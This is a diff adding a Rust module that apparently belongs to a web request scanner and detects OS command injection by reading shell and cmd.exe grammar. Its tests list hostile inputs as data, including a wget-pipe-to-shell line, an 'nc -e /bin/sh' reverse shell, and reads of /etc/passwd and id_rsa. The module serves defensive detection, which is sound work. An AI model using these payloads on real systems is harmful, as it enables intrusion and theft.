@@ -1,0 +1,636 @@
+//! OS command injection, judged by the shell's grammar.
+//!
+//! Text is read as the inside of a command line: what separates commands (`;` `|` `&` a line feed), what runs another one in place
+//! (`$(…)`, backquotes, `<(…)`), what a word is once quotes, backslashes, `$IFS`, empty variables and braces are gone. A separator counts
+//! only with a command behind it, and a command whose name is also an English word only with arguments that a sentence does
+//! not have. cmd.exe's own grammar (`for /f`, `if exist`, `%var%`) is read beside it.
+
+mod word;
+
+use word::{Command, command};
+
+use super::finding::Findings;
+use super::marks::Marks;
+use super::target::{Part, Place};
+use crate::request::AttackClass::Cmdi;
+
+/// Most command positions tried in one part. A command line of an attack has a handful.
+const MAX_COMMANDS: usize = 64;
+
+/// Longest word of a command that is read, in bytes after unquoting: program names and their paths are short.
+const MAX_WORD: usize = 96;
+
+/// How a command position was reached.
+#[derive(Copy, Clone, Debug, PartialEq, Eq)]
+enum Door {
+    /// The part begins here.
+    Start,
+    /// After `;` `|` `&` `&&` `||` or a line feed.
+    Separator,
+    /// Inside `$(…)`, backquotes or `<(…)`: the shell runs it in place.
+    Substitution,
+}
+
+/// Judges one part.
+pub(super) fn judge(part: &Part<'_>, found: &mut Findings) {
+    if matches!(part.place, Place::UserAgent | Place::Referer) && !part.marks.any(Marks::DOLLAR.and(Marks::QUOTE)) {
+        return;
+    }
+    let mut positions = Positions { text: part.lower, at: 0, first: part.place != Place::Path };
+    for _ in 0..MAX_COMMANDS {
+        let Some((at, door)) = positions.next() else { break };
+        judge_command(part, at, door, found);
+    }
+    judge_expansion(part, found);
+    judge_cmd_exe(part, found);
+}
+
+/// Walks the positions at which a shell would look for a command.
+struct Positions<'t> {
+    text: &'t [u8],
+    at: usize,
+    first: bool,
+}
+
+impl Positions<'_> {
+    fn next(&mut self) -> Option<(usize, Door)> {
+        if std::mem::take(&mut self.first) {
+            return Some((0, Door::Start));
+        }
+        while let Some(&byte) = self.text.get(self.at) {
+            let following = self.text.get(self.at + 1).copied();
+            let (skip, door) = match (byte, following) {
+                (b'$' | b'<' | b'>', Some(b'(')) => (2, Some(Door::Substitution)),
+                (b'`', _) => (1, Some(Door::Substitution)),
+                (b';' | b'|' | b'&' | b'\n' | b'\r', _) => (1, Some(Door::Separator)),
+                (b'^' | b'<' | b'{', _) if self.at == 0 => (1, Some(Door::Separator)),
+                // `\n` written out: what a shell or a JSON reader behind the parameter makes a line feed of.
+                (b'\\', Some(b'n' | b'r')) => (2, Some(Door::Separator)),
+                (b'\\', _) => (2, None),
+                _ => (1, None),
+            };
+            self.at += skip;
+            if let Some(door) = door {
+                return Some((self.at, door));
+            }
+        }
+        None
+    }
+}
+
+/// The words of one simple command, unquoted.
+struct Words {
+    /// The command word.
+    name: Vec<u8>,
+    /// Where the command word ends in the text.
+    name_end: usize,
+    /// Where the simple command ends in the text.
+    end: usize,
+    /// The word was written with quotes, backslashes, variables or braces inside.
+    disguised: bool,
+    /// An assignment stood before it (`X=y cmd`), or it was the value of a variable.
+    assigned: bool,
+    /// Braces held it: `{cat,/etc/passwd}`.
+    braced: bool,
+}
+
+fn judge_command(part: &Part<'_>, at: usize, door: Door, found: &mut Findings) {
+    let Some(words) = read_command(part.lower, at) else { return };
+    let known = if words.name.len() < MAX_WORD { command(&words.name) } else { None };
+    let Some(kind) = known else {
+        judge_unknown(part, at, door, &words, found);
+        return;
+    };
+    if is_wrapper(&words.name)
+        && let Some(inner) = read_command(part.lower, words.name_end)
+        && command(&inner.name) >= Some(Command::Plain)
+    {
+        found.add(Cmdi, 55, part.offset + at..part.offset + inner.end, "runs a command through another");
+    }
+    let arguments = Arguments::of(part.lower, words.name_end, words.end, words.braced);
+    let weight = weigh(part, at, door, kind, &words, arguments);
+    if weight > 0 {
+        let reason = match door {
+            Door::Start => "is a command line",
+            Door::Separator => "ends a command and begins another",
+            Door::Substitution => "runs a command in place of a value",
+        };
+        found.add(Cmdi, weight, part.offset + at..part.offset + words.end, reason);
+    }
+    if words.disguised && kind >= Command::Plain && weight >= 40 {
+        found.add(Cmdi, 20, part.offset + at..part.offset + words.name_end, "hides a command's name from filters");
+    }
+}
+
+/// Commands whose argument is a command.
+fn is_wrapper(name: &[u8]) -> bool {
+    matches!(
+        name,
+        b"time"
+            | b"sudo"
+            | b"nohup"
+            | b"exec"
+            | b"env"
+            | b"command"
+            | b"nice"
+            | b"builtin"
+            | b"setsid"
+            | b"timeout"
+            | b"busybox"
+            | b"xargs"
+            | b"eval"
+    )
+}
+
+/// Points for a command that was found.
+fn weigh(part: &Part<'_>, at: usize, door: Door, kind: Command, words: &Words, arguments: Arguments) -> u8 {
+    let bare_name = part.place == Place::Name && door == Door::Start;
+    let base = match (door, kind) {
+        (Door::Substitution, Command::Tool | Command::Plain) => 70,
+        (Door::Substitution, Command::Ambiguous) => 40,
+        (Door::Separator, Command::Tool) => 50,
+        (Door::Separator, Command::Plain) => 40,
+        (Door::Separator, Command::Ambiguous) => 25,
+        // The value *is* a command: with an argument that a sentence does not have, or under a name that asks for one.
+        (Door::Start, Command::Tool | Command::Plain) => match arguments {
+            Arguments::None if names_program_file(&words.name) => 50,
+            Arguments::None if matches!(part.lower.get(words.end), Some(b'|' | b';')) => 55,
+            // `id eq 5`, `id,name`: the most common name of a column.
+            Arguments::Technical if words.name == b"id" => 0,
+            Arguments::Technical => 50,
+            Arguments::Prose if asks_for_command(part.name) => 50,
+            Arguments::None if asks_for_command(part.name) => 60,
+            Arguments::None if words.disguised || words.braced => 55,
+            _ => 0,
+        },
+        (Door::Start, Command::Ambiguous) => match arguments {
+            Arguments::Technical if words.disguised || words.braced => 50,
+            Arguments::Technical => 20,
+            _ if asks_for_command(part.name) => 30,
+            _ => 0,
+        },
+    };
+    let extra = match arguments {
+        Arguments::Technical => 25,
+        Arguments::None if !bare_name => 15,
+        Arguments::None | Arguments::Prose => 0,
+    };
+    if door == Door::Start {
+        return if bare_name && arguments != Arguments::Technical && !part.after_double_ampersand {
+            0
+        } else {
+            base + extra / 2
+        };
+    }
+    // Nobody writes a word right behind a separator and then stops.
+    let tight = kind == Command::Ambiguous && arguments == Arguments::None && words.name_end - at == words.name.len();
+    if tight {
+        return 50;
+    }
+    if arguments == Arguments::Prose && kind < Command::Tool { base / 2 } else { base + extra }
+}
+
+/// `/usr/bin/x`, `bin/x`: a program by its path.
+fn names_program_file(word: &[u8]) -> bool {
+    let path = word.strip_prefix(b"/").unwrap_or(word);
+    let path = path.strip_prefix(b"usr/").unwrap_or(path);
+    let path = path.strip_prefix(b"local/").unwrap_or(path);
+    let program = path.strip_prefix(b"bin/").or_else(|| path.strip_prefix(b"sbin/"));
+    program.is_some_and(|program| {
+        program.len() > 1
+            && program.iter().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_' | b'.'))
+    })
+}
+
+/// Names under which web shells and diagnostic pages take a command.
+fn asks_for_command(name: &[u8]) -> bool {
+    matches!(
+        name,
+        b"cmd"
+            | b"command"
+            | b"exec"
+            | b"execute"
+            | b"shell"
+            | b"rce"
+            | b"run"
+            | b"system"
+            | b"c"
+            | b"cm"
+            | b"ping"
+            | b"process"
+            | b"daemon"
+            | b"upload"
+    )
+}
+
+/// A command that is no known program, yet can be nothing else: `CMD=$'id';$CMD`, `/???/b??/w?o?m?`, `{x,y}`.
+fn judge_unknown(part: &Part<'_>, at: usize, door: Door, words: &Words, found: &mut Findings) {
+    let text = &part.lower[at..words.end];
+    let variable =
+        text.first() == Some(&b'$') && text.get(1).is_some_and(|byte| byte.is_ascii_alphabetic() || *byte == b'{');
+    let (weight, reason) = match door {
+        Door::Start
+            if names_program_file(&words.name) && words.end == part.lower.len() && part.place == Place::Value =>
+        {
+            (50, "names a program of the system")
+        }
+        _ if is_glob(&words.name) && part.place != Place::Path => (60, "names a program by wildcards"),
+        Door::Start | Door::Separator if words.assigned && runs_its_variable(part.lower, text) => {
+            (60, "puts a command into a variable and runs it")
+        }
+        Door::Separator if variable && part.place != Place::Path && text.len() > 2 && !words.name.contains(&b'=') => {
+            (25, "runs the value of a variable")
+        }
+        Door::Substitution if !words.name.is_empty() && part.place != Place::Referer && text.first() != Some(&b'`') => {
+            (25, "has the form of a command substitution")
+        }
+        _ => return,
+    };
+    found.add(Cmdi, weight, part.offset + at..part.offset + words.end, reason);
+}
+
+/// `/???/b?n/c?t`: a path of which two characters or more are left to the shell.
+fn is_glob(word: &[u8]) -> bool {
+    let wild = word.iter().filter(|byte| **byte == b'?').count();
+    word.starts_with(b"/")
+        && wild >= 2
+        && !word.contains(&b'=')
+        && !word.windows(3).any(|three| three.is_ascii() && three == b"://")
+}
+
+/// `x=…;$x`: whether the variable that `assignment` sets is used later in `text`.
+fn runs_its_variable(text: &[u8], assignment: &[u8]) -> bool {
+    let name = assignment.split(|byte| *byte == b'=').next().unwrap_or_default();
+    let plain =
+        !name.is_empty() && name.len() <= 32 && name.iter().all(|byte| byte.is_ascii_alphanumeric() || *byte == b'_');
+    plain && memchr::memmem::find_iter(text, name).any(|at| at > 0 && text[at - 1] == b'$')
+}
+
+/// Reads one simple command at `at`: skips spaces, parentheses and assignments, unquotes its first word.
+fn read_command(text: &[u8], at: usize) -> Option<Words> {
+    let mut words = Words { name: Vec::new(), name_end: 0, end: 0, disguised: false, assigned: false, braced: false };
+    let mut start = at;
+    // 4: assignments and openers in front of one command.
+    for _ in 0..4 {
+        start += text[start.min(text.len())..]
+            .iter()
+            .take_while(|byte| matches!(byte, b' ' | b'\t' | b'(' | b'@' | b'!' | b'"' | b'\'' | b'+'))
+            .count();
+        if text.get(start) == Some(&b'{') {
+            words.braced = true;
+            start += 1 + text[start + 1..].iter().take_while(|byte| matches!(byte, b',' | b' ')).count();
+        }
+        words.name_end = unquote(text, start, &mut words);
+        if is_empty_variable(&words.name) && matches!(text.get(words.name_end), Some(b' ' | b'\t')) {
+            words.disguised = true;
+            start = words.name_end;
+            words.name.clear();
+            continue;
+        }
+        if !words.name.contains(&b'=') {
+            break;
+        }
+        words.assigned = true;
+        if text.get(words.name_end).is_none_or(|byte| !matches!(byte, b' ' | b'\t')) {
+            break;
+        }
+        start = words.name_end;
+        words.name.clear();
+    }
+    words.end = command_end(text, words.name_end);
+    (!words.name.is_empty()).then_some(words)
+}
+
+/// `$x` as a word: expands to nothing where it is not set.
+fn is_empty_variable(word: &[u8]) -> bool {
+    word.len() <= 3 && word.starts_with(b"$") && word[1..].iter().all(u8::is_ascii_alphabetic)
+}
+
+/// Where the simple command that goes on at `from` ends.
+fn command_end(text: &[u8], from: usize) -> usize {
+    from + text[from..].iter().take_while(|byte| !matches!(byte, b';' | b'|' | b'&' | b'`' | b'\n' | b'\r')).count()
+}
+
+/// Unquotes the word at `from` into `words.name`; gives its end. Empty quotes, backslashes and carets, `$@`, `$1`, `$IFS` and `${IFS}` are what
+/// a shell drops or reads as a space.
+fn unquote(text: &[u8], from: usize, words: &mut Words) -> usize {
+    let mut at = from;
+    while let Some(&byte) = text.get(at) {
+        if words.name.len() >= MAX_WORD {
+            break;
+        }
+        match byte {
+            b'\'' | b'"' => {
+                // A quote inside a word is a disguise; one that closes it is syntax around it.
+                words.disguised |= at > from && text.get(at + 1).is_some_and(u8::is_ascii_alphanumeric);
+                at += 1;
+            }
+            b'\\' | b'^' if text.get(at + 1).is_some_and(u8::is_ascii_alphanumeric) && !looks_windows(text, at) => {
+                words.disguised |= at > from;
+                at += 1;
+            }
+            b'$' if matches!(text.get(at + 1), Some(b'\'' | b'"')) => at += 1,
+            // `\n` written out at the end of a word is a line feed, not a disguise.
+            b'\\'
+                if matches!(text.get(at + 1), Some(b'n' | b'r'))
+                    && !text.get(at + 2).is_some_and(u8::is_ascii_alphanumeric) =>
+            {
+                break;
+            }
+            b'$' => match variable_length(text, at) {
+                Some((length, space)) => {
+                    words.disguised = true;
+                    if space && !words.name.is_empty() {
+                        return at;
+                    }
+                    at += length;
+                }
+                None => {
+                    words.name.push(byte);
+                    at += 1;
+                }
+            },
+            b' ' | b'\t' | b';' | b'|' | b'&' | b'`' | b'\n' | b'\r' | b'<' | b'>' | b'(' | b')' | b',' | b'}'
+            | b'+' => break,
+            _ => {
+                words.name.push(byte);
+                at += 1;
+            }
+        }
+    }
+    at
+}
+
+/// `c:\windows\…`: there a backslash separates names.
+fn looks_windows(text: &[u8], at: usize) -> bool {
+    text[..at].iter().rev().take(64).take_while(|byte| !byte.is_ascii_whitespace()).any(|byte| *byte == b':')
+}
+
+/// Length of a variable at `at` that expands to nothing or to white space, and whether it is the latter.
+fn variable_length(text: &[u8], at: usize) -> Option<(usize, bool)> {
+    const EMPTY: [&[u8]; 8] = [b"$@", b"$*", b"$1", b"$2", b"$9", b"${@}", b"${9}", b"$()"];
+    let rest = &text[at..];
+    if rest.starts_with(b"${ifs") {
+        return Some((rest.iter().take(32).position(|byte| *byte == b'}').map_or(6, |end| end + 1), true));
+    }
+    if rest.starts_with(b"$ifs") {
+        return Some((
+            4 + usize::from(matches!(rest.get(4), Some(b'$')) && rest.get(5).is_some_and(u8::is_ascii_digit)) * 2,
+            true,
+        ));
+    }
+    EMPTY.iter().find(|variable| rest.starts_with(variable)).map(|variable| (variable.len(), false))
+}
+
+/// What follows a command word.
+#[derive(Copy, Clone, Debug, PartialEq, Eq)]
+enum Arguments {
+    /// Nothing: the command ends here.
+    None,
+    /// Options, paths, variables, addresses, redirections.
+    Technical,
+    /// Words.
+    Prose,
+}
+
+impl Arguments {
+    fn of(text: &[u8], from: usize, to: usize, braced: bool) -> Self {
+        let rest = text.get(from..to).unwrap_or_default();
+        if rest.iter().all(|byte| matches!(byte, b' ' | b'\t' | b'\'' | b'"' | b')' | b'}' | b'/' | b'#' | b','))
+            || rest.starts_with(b"\\n")
+        {
+            return Self::None;
+        }
+        if matches!(rest.first(), Some(b'<' | b'>' | b'$'))
+            || rest.starts_with(b"/c")
+            || (braced && rest.starts_with(b","))
+        {
+            return Self::Technical;
+        }
+        // What makes a command line one shows in its first arguments; two plain words in a row are a sentence.
+        let mut words = rest.split(|byte| matches!(byte, b' ' | b'\t' | b'+')).filter(|word| !word.is_empty());
+        let technical = words.by_ref().take(2).any(is_technical) || words.take(6).any(is_certain);
+        if technical { Self::Technical } else { Self::Prose }
+    }
+}
+
+/// Arguments that only a command line has, wherever they stand.
+fn is_certain(word: &[u8]) -> bool {
+    (word.len() > 2 && matches!(word.first(), Some(b'/' | b'>' | b'<' | b'$')))
+        || memchr::memmem::find(word, b"://").is_some()
+}
+
+fn is_technical(word: &[u8]) -> bool {
+    let word = word.strip_suffix(b")").or_else(|| word.strip_suffix(b"`")).unwrap_or(word);
+    let unquoted = word.iter().position(|byte| !matches!(byte, b'"' | b'\'' | b'(')).map_or(word, |at| &word[at..]);
+    let dot_inside = || {
+        unquoted
+            .iter()
+            .position(|byte| *byte == b'.')
+            .is_some_and(|at| at > 0 && unquoted.get(at + 1).is_some_and(u8::is_ascii_alphanumeric))
+    };
+    match unquoted.first() {
+        Some(b'-') => {
+            unquoted.get(1).is_some_and(|byte| byte.is_ascii_alphabetic() || *byte == b'-') && unquoted.len() <= 24
+        }
+        Some(b'/' | b'~' | b'$' | b'<' | b'>' | b'%' | b'*' | b'`' | b'{') => unquoted.len() > 1,
+        Some(drive) if drive.is_ascii_alphabetic() && unquoted.get(1) == Some(&b':') => true,
+        Some(byte) if byte.is_ascii_digit() => unquoted.iter().all(|byte| byte.is_ascii_digit() || *byte == b'.'),
+        Some(_) => {
+            memchr::memmem::find(unquoted, b"://").is_some()
+                || unquoted.contains(&b'$')
+                || unquoted.contains(&b'\\')
+                || unquoted.contains(&b'`')
+                || (unquoted.contains(&b'/') && unquoted.len() > 3)
+                || dot_inside()
+        }
+        None => false,
+    }
+}
+
+/// Expansions that have no place in a value, whatever the command: `${IFS}`, `/dev/tcp/`, arithmetic, `$(<file)`, `{cat,file}` globs.
+fn judge_expansion(part: &Part<'_>, found: &mut Findings) {
+    if !part.marks.any(Marks::DOLLAR.and(Marks::BRACKET).and(Marks::ANGLE).and(Marks::QUOTE)) {
+        return;
+    }
+    let text = part.lower;
+    let mut report = |needle: &[u8], weight: u8, reason: &'static str| {
+        if let Some(at) = memchr::memmem::find(text, needle) {
+            found.add(Cmdi, weight, part.offset + at..part.offset + at + needle.len(), reason);
+        }
+    };
+    report(b"${ifs", 60, "writes spaces as the shell's separator variable");
+    report(b"$ifs", 55, "writes spaces as the shell's separator variable");
+    report(b"$((", 50, "has the shell do arithmetic");
+    report(b"$(<", 60, "has the shell read a file");
+    report(b"${#", 30, "measures a shell variable");
+    report(b"<(", 20, "has the form of a process substitution");
+    report(b">(", 20, "has the form of a process substitution");
+    report(b"$shell", 50, "names the shell by its variable");
+    report(b"${shell}", 60, "names the shell by its variable");
+    report(b"${path", 50, "cuts characters out of a shell variable");
+    report(b"${home", 50, "cuts characters out of a shell variable");
+    judge_bracket_glob(part, found);
+    judge_split_word(part, found);
+}
+
+/// `c$@at`, `pi``ng`, `c$?at+/et$?c`: expansions to nothing inside a word.
+fn judge_split_word(part: &Part<'_>, found: &mut Findings) {
+    const NOTHING: [&[u8]; 9] = [b"``", b"$()", b"<()", b"$@", b"$*", b"$?", b"$$", b"$_", b"$!"];
+    let text = part.lower;
+    let inside_word = |at: usize, length: usize| {
+        at > 0 && text[at - 1].is_ascii_lowercase() && text.get(at + length).is_some_and(u8::is_ascii_lowercase)
+    };
+    let splits: usize = NOTHING
+        .iter()
+        .map(|nothing| {
+            memchr::memmem::find_iter(text, nothing).take(8).filter(|at| inside_word(*at, nothing.len())).count()
+        })
+        .sum();
+    let certain = [&b"``"[..], b"$()", b"<()", b"$@"]
+        .iter()
+        .any(|nothing| memchr::memmem::find_iter(text, nothing).take(8).any(|at| inside_word(at, nothing.len())));
+    if splits >= 2 || certain {
+        found.add(Cmdi, 55, part.offset..part.offset + text.len(), "splits words with expansions to nothing");
+    }
+}
+
+/// `/[e]tc/passwd`, `/usr/[a-z]in/bash`: one-letter character classes inside a path.
+fn judge_bracket_glob(part: &Part<'_>, found: &mut Findings) {
+    if part.place == Place::Path || !part.marks.any(Marks::SLASH) {
+        return;
+    }
+    let text = part.lower;
+    for open in memchr::memchr_iter(b'[', text).take(16) {
+        let Some(close) = memchr::memchr(b']', &text[open..(open + 12).min(text.len())]) else { continue };
+        let inside = &text[open + 1..open + close];
+        let letter_after = text.get(open + close + 1).is_some_and(u8::is_ascii_lowercase);
+        let path_before = open > 0
+            && (text[open - 1] == b'/'
+                || text[..open]
+                    .rsplit(|byte| *byte == b'/')
+                    .next()
+                    .is_some_and(|word| word.len() < 5 && word.len() < open));
+        if letter_after && path_before && !inside.is_empty() && inside[0].is_ascii_lowercase() {
+            found.add(
+                Cmdi,
+                55,
+                part.offset + open..part.offset + open + close + 1,
+                "writes a path with character classes",
+            );
+        }
+    }
+}
+
+/// cmd.exe: `for /f … do`, `if exist x cmd`, `%COMSPEC%`.
+fn judge_cmd_exe(part: &Part<'_>, found: &mut Findings) {
+    if !matches!(part.place, Place::Value | Place::Name) {
+        return;
+    }
+    let mut words = part
+        .lower
+        .split(|byte| matches!(byte, b' ' | b'\t' | b'&' | b'|' | b'@' | b'\n' | b';'))
+        .filter(|word| !word.is_empty());
+    let mut state = (0_usize, None::<&[u8]>);
+    // 24: the head of a batch statement; what follows is its body.
+    for _ in 0..24 {
+        let Some(word) = words.next() else { break };
+        let weight = match (state.1, word) {
+            (Some(b"for"), word) if word.starts_with(b"%") || matches!(word, b"/f" | b"/d" | b"/r" | b"/l") => 60,
+            (Some(b"if"), b"/i" | b"exist" | b"defined" | b"errorlevel" | b"cmdextversion") => 55,
+            (Some(b"not"), b"exist" | b"defined" | b"errorlevel" | b"/i" | b"cmdextversion") if state.0 > 0 => 55,
+            (Some(_), b"equ" | b"neq" | b"lss" | b"leq" | b"gtr" | b"geq") if state.0 > 0 => 55,
+            (_, word) if state.0 > 0 && memchr::memmem::find(word, b"==").is_some() => 50,
+            _ => 0,
+        };
+        if weight > 0 {
+            found.add(
+                Cmdi,
+                weight,
+                part.offset..part.offset + part.lower.len(),
+                "is a statement of the Windows command shell",
+            );
+            return;
+        }
+        state = (state.0 + usize::from(word == b"if"), Some(word));
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::decode::Tricks;
+    use super::super::marks::marks_of;
+    use super::*;
+
+    fn score(text: &str) -> u8 {
+        let lower = text.to_ascii_lowercase();
+        let part = Part {
+            place: Place::Value,
+            text: text.as_bytes(),
+            lower: lower.as_bytes(),
+            offset: 0,
+            name: b"q",
+            path: b"/",
+            marks: marks_of(text.as_bytes()),
+            tricks: Tricks::default(),
+            after_double_ampersand: false,
+        };
+        let mut found = Findings::default();
+        judge(&part, &mut found);
+        found.sum().map_or(0, |(_, score)| score)
+    }
+
+    #[test]
+    fn command_lines_are_commands() {
+        for text in [
+            ";id",
+            "x;id",
+            "x|whoami",
+            "127.0.0.1 && cat /etc/passwd",
+            "$(curl http://203.0.113.5/x)",
+            "`uname -a`",
+            "a\ncat /etc/hosts",
+            ";w'h'o'a'mi",
+            "|c\\at /etc/passwd",
+            ";cat${IFS}/etc/passwd",
+            "{cat,/etc/passwd}",
+            "ping -c 3 192.0.2.1",
+            "x; find / -name id_rsa",
+            ";CMD=$'ls -la';$CMD",
+            "|/usr/bin/id",
+            "x;wget -O- 192.0.2.7/s|sh",
+            "nc -e /bin/sh 192.0.2.1 4444",
+            "& ipconfig /all",
+            "/???/b??/nc 192.0.2.1",
+            "for /f %i in ('dir') do echo %i",
+            "if exist c:\\x del c:\\x",
+            "$((7*191))",
+            "cmd /c dir c:\\",
+        ] {
+            assert!(score(text) >= 50, "{text} scores {}", score(text));
+        }
+    }
+
+    #[test]
+    fn prose_is_no_command_line() {
+        for text in [
+            "if the key does not exist, insert it; find the next one",
+            "cats & dogs",
+            "salt & pepper; time for dinner",
+            "Most of us sort by date | more",
+            "AT&T",
+            "id",
+            "echo chamber",
+            "the cat sat",
+            "R&D; test it",
+            "ping pong",
+            "a; who knows",
+            "price $5 (each)",
+            "use `cargo run` to start",
+            "head over heels",
+            "M;O=D",
+        ] {
+            assert!(score(text) < 50, "{text} scores {}", score(text));
+        }
+    }
+}
